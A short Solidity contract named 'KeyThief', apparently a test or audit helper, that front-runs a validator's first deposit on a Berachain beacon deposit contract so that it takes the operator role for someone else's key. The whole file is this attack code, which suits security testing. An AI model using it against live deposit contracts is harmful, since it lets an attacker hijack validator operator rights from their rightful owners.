// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import { IBeaconDeposit } from "contracts/src/berachain/interfaces/pol/IBeaconDeposit.sol";

/// @title Sees a validator's key before its pool is opened, and deposits for it first
contract KeyThief {
    IBeaconDeposit private immutable _deposits;

    constructor(IBeaconDeposit deposits) {
        _deposits = deposits;
    }

    /// @notice Becomes the key's operator, with the withdrawals going wherever `credentials` say.
    function take(bytes calldata pubkey, bytes calldata credentials) external payable {
        _deposits.deposit{ value: msg.value }(pubkey, credentials, new bytes(96), address(this));
    }

    /// @notice Adds to a validator whose operator is somebody else, as everybody can.
    function topUp(bytes calldata pubkey, bytes calldata credentials) external payable {
        _deposits.deposit{ value: msg.value }(pubkey, credentials, new bytes(96), address(0));
    }
}
